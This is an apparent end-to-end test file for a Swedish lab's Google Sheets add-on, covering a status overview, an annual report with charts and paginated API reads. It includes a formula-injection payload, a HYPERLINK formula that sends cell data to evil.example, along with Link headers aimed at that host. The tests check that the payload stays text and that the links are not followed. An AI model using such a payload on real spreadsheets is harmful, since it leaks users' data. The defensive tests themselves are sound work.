// The kansli's menu actions end to end: the status overview with its hourly trigger, and the
// annual report with its charts, against a real `provrum serve --demo`.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { useServer, userOf } = require('../harness/session');

const ctx = useServer();
const HEADER = [
  'Provrum', 'Status', 'Redo att starta', 'Varför inte redo', 'Kan få klartecken', 'Varför inte (enligt reglerna)',
  'Provrumsledare', 'Deltagare', 'Regioner', 'Start', 'Slut',
  'Total budget', 'Basfinansiering', 'Budgetkontroll', 'Fel', 'Varningar', 'Budgetversioner',
  'Kvotår', 'Resultat försenat', 'Id',
];

test('Statusöversikt: every provrum in Swedish words, coloured, refreshed hourly by one trigger', async () => {
  const { server } = ctx;
  const { env, ss } = userOf(server, 'reglab', { name: 'Reglab – status' });
  env.menu('Statusöversikt (kansli)');
  assert.equal(env.alerts.length, 0, JSON.stringify(env.alerts));
  const sheet = ss.getSheetByName('Status');
  assert.equal(ss.getActiveSheet(), sheet);
  assert.equal(sheet.text('A1'), 'Provrum – statusöversikt');
  assert.match(sheet.text('A2'), /^Senast uppdaterad \d{4}-\d\d-\d\d \d\d:\d\d · uppdateras automatiskt varje timme av token ”demo” \(Reglabs kansli\)$/);
  assert.deepEqual(sheet.rows(4, 20)[0], HEADER);
  assert.equal(sheet.getFrozenRows(), 4);
  const rows = sheet.rows(5, 20);
  assert.equal(rows.length, 5);
  const ai = rows.find((r) => r[0].startsWith('AI och visualisering'));
  assert.deepEqual(ai.slice(1, 3), ['Pågår', 'Ja']);
  assert.deepEqual(ai.slice(6, 9), ['Region Östergötland', 4, 3]);
  assert.deepEqual([ai[9], ai[10]].map((d) => d.toISOString().slice(0, 10)), ['2026-10-18', '2027-02-17']);
  assert.deepEqual(ai.slice(11, 14), [265000, 93000, 'OK']);
  assert.equal(ai[17], 2026);
  assert.equal(ai[18], '', 'the result is not overdue: it ends in 2027');
  // Running too, its result due in two weeks: not overdue yet.
  const trips = rows.find((r) => r[0] === 'Fossilfria tjänsteresor');
  assert.deepEqual([trips[1], trips[6], trips[7], trips[8], trips[13], trips[17], trips[18]], ['Pågår', 'Region Skåne', 3, 3, 'OK', 2026, '']);
  assert.deepEqual([trips[9], trips[10]].map((d) => d.toISOString().slice(0, 10)), ['2026-08-14', '2026-12-13']);
  // Ready to start, but its budget has an error and the year's quota and cap are used up: the
  // go-ahead says no, and why, with the cell (the server's words; the add-on decides nothing).
  const drones = rows.find((r) => r[0].startsWith('Drönare'));
  assert.deepEqual([drones[1], drones[2], drones[3], drones[4], drones[13], drones[14]], ['Föreslaget', 'Ja', '', 'Nej', 'Fel', 1]);
  assert.deepEqual(drones[5].split('\n'), [
    'BUD-4 (Budget!C7): Reglabs basfinansiering är 139 500 kr men får vara högst 100 000 kr. Minska den med 39 500 kr.',
    'KVOT-1: 2 provrum har redan startat 2026; Reglab kan genomföra högst 2 per år.',
    'KVOT-2: Reglabs beviljade basfinansiering 2026 skulle bli 325 500 kr, över taket 200 000 kr: ' +
      '186 000 kr är redan beviljat och provrummet begär 139 500 kr.',
  ]);
  // Ready, with a leader, waiting for its budget.
  const data = rows.find((r) => r[0] === 'Öppna data i regional analys');
  assert.deepEqual([data[1], data[2], data[3], data[4], data[6], data[13]], ['Föreslaget', 'Ja', '', 'Nej', 'Region Östergötland', 'Ingen budget']);
  assert.deepEqual(data[5].split('\n'), [
    'BUD-1: Ingen budget är uppladdad; provrumsledaren laddar upp projektplan och budget innan start.',
  ]);
  const defence = rows.find((r) => r[0] === 'Civilt försvar');
  assert.deepEqual([defence[2], defence[3], defence[4], defence[6], defence[13]], ['Nej', 'DELT-3: Provrummet har ingen provrumsledare ännu.', 'Nej', '', 'Ingen budget']);
  assert.deepEqual(defence[5].split('\n'), [
    'DELT-3: Provrummet har ingen provrumsledare ännu.',
    'BUD-1: Ingen budget är uppladdad; provrumsledaren laddar upp projektplan och budget innan start.',
  ]);
  assert.ok(rows.every((r) => r[18] === ''), 'no result is overdue');
  assert.equal(sheet.getRange('L5').first().numberFormat, '[>=1000000]0" "000" "000" kr";[>=1000]0" "000" kr";0" kr"');

  const rules = sheet.getConditionalFormatRules();
  const rule = (text, col) => rules.find((r) => r.text === text && r.ranges[0].getColumn() === col);
  assert.equal(rule('Pågår', 2).background, '#d9ead3');
  assert.equal(rule('Fel', 14).background, '#f4cccc');
  assert.equal(rule('Ja', 19).background, '#f4cccc');
  assert.equal(rule('Pågår', 2).ranges[0].getA1Notation(), 'B5:B9');

  assert.equal(env.triggers.length, 1);
  assert.equal(env.triggers[0].handler, 'refreshStatusOnTimer');
  assert.equal(env.triggers[0].hours, 1);
  env.menu('Statusöversikt (kansli)');
  assert.equal(env.triggers.length, 1, 'choosing it again does not add a second trigger');

  // An hour later, with no spreadsheet open: a new provrum shows up.
  const created = await server.api('POST', '/provrum', server.tokens['region-ostergotland'], { title: 'Ny cykelväg' });
  assert.equal(created.status, 201);
  assert.equal(env.fireTriggers('refreshStatusOnTimer'), 1);
  assert.equal(sheet.rows(5, 20).length, 6);
  assert.ok(sheet.rows(5, 20).some((r) => r[0] === 'Ny cykelväg' && r[1] === 'Föreslaget'));

  // When the service refuses, the last good rows stay and the sheet says why.
  env.userProperties.setProperty('provrum.token', 'prv_revoked');
  env.fireTriggers('refreshStatusOnTimer');
  assert.match(sheet.text('A3'), /^Uppdateringen \d{4}-\d\d-\d\d \d\d:\d\d misslyckades: Din token godkändes inte/);
  assert.equal(sheet.rows(5, 20).length, 6);

  env.menu('Stoppa timuppdatering av status');
  assert.equal(env.triggers.length, 0);
  assert.match(sheet.text('A2'), /^Timuppdateringen stängdes av \d{4}-\d\d-\d\d \d\d:\d\d; raderna nedan är från den senaste uppdateringen\./);
  assert.match(env.lastAlert().message, /Timuppdateringen är avstängd/);
});

test('Statusöversikt is the kansli\'s: a leader gets a Swedish 403 message and no trigger', () => {
  const { env, ss } = userOf(ctx.server, 'region-ostergotland');
  env.menu('Statusöversikt (kansli)');
  assert.match(env.lastAlert().message, /^Din organisation får inte göra det här\./);
  assert.equal(env.triggers.length, 0);
  assert.ok(!ss.getSheetByName('Status'));
});

test('Årsrapport: the year\'s figures, the lists and two charts against the quota and the cap', () => {
  const { env, ss } = userOf(ctx.server, 'reglab');
  env.answer({ button: 'OK', text: '2026' });
  env.menu('Årsrapport (kansli)…');
  assert.equal(env.alerts.at(-1).prompt, true);
  assert.match(env.alerts.at(-1).message, /^Vilket år\? Lämna tomt för \d{4}\.$/);
  const sheet = ss.getSheetByName('Årsrapport 2026');
  assert.ok(sheet, ss.getSheets().map((s) => s.getName()).join());
  assert.equal(sheet.text('A1'), 'Årsrapport 2026 – provrum och Reglabs basfinansiering');
  assert.deepEqual(sheet.rows(4, 4).slice(0, 5), [
    ['Provrum', 'Startade', 'Kvot', 'Kvar'],
    ['2026', 2, 2, 0],
    ['', '', '', ''],
    ['Basfinansiering', 'Beviljad', 'Tak', 'Kvar'],
    ['2026', 186000, 200000, 14000],
  ]);
  assert.deepEqual(sheet.rows(10, 2).slice(0, 4), [
    ['Medlemmar', 23],
    ['Kostnad utslaget per medlem', 8086.95],
    ['Modellens kostnad utslaget per medlem', 8700],
    ['Utvecklingsfas', 'Nej'],
  ]);
  const all = sheet.rows(1, 5).map((r) => r[0]);
  assert.ok(all.includes('Provrum som startat 2026'));
  assert.ok(all.includes('Resultat som dröjer'));
  assert.ok(all.includes('Inga resultat dröjer.'), 'both started provrum end later than today');
  assert.equal(all.filter((t) => t === 'AI och visualisering i regional utveckling').length, 1, 'started, and its result not overdue');
  assert.equal(all.filter((t) => t === 'Fossilfria tjänsteresor').length, 1, 'started, and its result not overdue');
  assert.ok(!all.some((t) => /^Drönare|^Öppna data|^Civilt försvar/.test(t)), 'proposed provrum have not started');

  const charts = sheet.getCharts();
  assert.equal(charts.length, 2);
  assert.deepEqual(charts.map((c) => c.getRanges()[0].getA1Notation()), ['A4:C5', 'A7:C8']);
  assert.deepEqual(charts.map((c) => c.getOptions().get('title')), [
    'Provrum 2026: startade mot kvoten',
    'Basfinansiering 2026 (kr): beviljad mot taket',
  ]);

  // Again for the same year: the sheet is rewritten, not doubled, and keeps two charts.
  env.answer({ button: 'OK', text: '2026' });
  env.menu('Årsrapport (kansli)…');
  assert.equal(ss.getSheets().filter((s) => s.getName() === 'Årsrapport 2026').length, 1);
  assert.equal(sheet.getCharts().length, 2);

  // A year with nothing started says so.
  env.answer({ button: 'OK', text: '2025' });
  env.menu('Årsrapport (kansli)…');
  const empty = ss.getSheetByName('Årsrapport 2025');
  assert.deepEqual(empty.rows(5, 4)[0], ['2025', 0, 2, 2]);
  assert.deepEqual(empty.rows(8, 4)[0], ['2025', 0, 200000, 200000]);
  assert.ok(empty.rows(1, 1).some((r) => r[0] === 'Inga provrum har startat 2025.'));
  assert.ok(empty.rows(1, 1).some((r) => r[0] === 'Inga resultat dröjer.'));

  // Not a year, and cancel.
  env.answer({ button: 'OK', text: 'tjugotjugofem' });
  env.menu('Årsrapport (kansli)…');
  assert.match(env.lastAlert().message, /^Skriv ett årtal, till exempel \d{4}\.$/);
  const sheets = ss.getSheets().length;
  env.answer({ button: 'CANCEL', text: '2023' });
  env.menu('Årsrapport (kansli)…');
  assert.equal(ss.getSheets().length, sheets);
});

test('a title that looks like a formula stays text in the kansli\'s sheet', async () => {
  const { server } = ctx;
  const title = '=HYPERLINK("https://evil.example/?"&A5,"Klicka här")';
  const created = await server.api('POST', '/provrum', server.tokens['region-ostergotland'], { title });
  assert.equal(created.status, 201, JSON.stringify(created.body));
  const { env, ss } = userOf(server, 'reglab');
  env.menu('Statusöversikt (kansli)');
  const sheet = ss.getSheetByName('Status');
  const row = sheet.rows(5, 20).findIndex((r) => r[0] === title);
  assert.ok(row >= 0, 'the title is shown as it was written');
  assert.equal(sheet.getRange(5 + row, 1).getFormula(), '', 'and is not a formula');
});

test('the hourly refresh keeps an English user\'s language, and survives Google being briefly away', () => {
  const { env, ss } = userOf(ctx.server, 'reglab', { locale: 'en' });
  env.menu('Status overview (kansli)');
  const sheet = ss.getSheetByName('Status');
  assert.equal(sheet.text('A1'), 'Provrum – status overview');
  env.fireTriggers('refreshStatusOnTimer');
  assert.equal(sheet.text('A1'), 'Provrum – status overview', 'a trigger has no locale; the saved language is used');
  assert.match(sheet.text('A2'), /^Last updated /);

  // The spreadsheet cannot be opened: the refresh tries again every hour for a day, then stops.
  env.drive.delete(ss.getId());
  for (let hour = 1; hour < 24; hour++) env.fireTriggers('refreshStatusOnTimer');
  assert.equal(env.triggers.length, 1, 'still trying after 23 hours');
  env.drive.set(ss.getId(), ss);
  env.fireTriggers('refreshStatusOnTimer');
  assert.equal(env.userProperties.getProperty('provrum.statusFailures'), null, 'a success resets the count');
  env.drive.delete(ss.getId());
  for (let hour = 1; hour <= 24; hour++) env.fireTriggers('refreshStatusOnTimer');
  assert.equal(env.triggers.length, 0, 'given up after a day out of reach');
});

test('a listing longer than a page is read whole, following its Link header', async () => {
  const { server } = ctx;
  const whole = (await server.api('GET', '/orgs?limit=500', server.tokens.reglab)).body.map((o) => o.id);
  assert.ok(whole.length >= 5, JSON.stringify(whole));
  const { env } = userOf(server, 'reglab');
  const sent = env.fetches.length;
  const read = Array.from(env.call('requestAll_', '/orgs?limit=2'), (o) => o.id);
  assert.deepEqual(read, whole);
  const pages = env.fetches.slice(sent).map((f) => f.url.slice(server.url.length));
  assert.equal(pages.length, Math.ceil(whole.length / 2), JSON.stringify(pages));
  assert.equal(pages[0], '/orgs?limit=2');
  assert.ok(pages.slice(1).every((p) => /^\/orgs\?cursor=[^&]+&limit=2$/.test(p)), JSON.stringify(pages));
  // A Link to another server is never followed: the token would go with it.
  assert.equal(env.call('nextPage_', { Link: '<https://evil.example/orgs?cursor=x>; rel="next"' }), null);
  assert.equal(env.call('nextPage_', { link: '<//evil.example/orgs>; rel="next"' }), null);
  assert.equal(env.call('nextPage_', { Link: '</provrum?cursor=a&limit=1>; rel="next"' }), '/provrum?cursor=a&limit=1');
  assert.equal(env.call('nextPage_', {}), null);
});
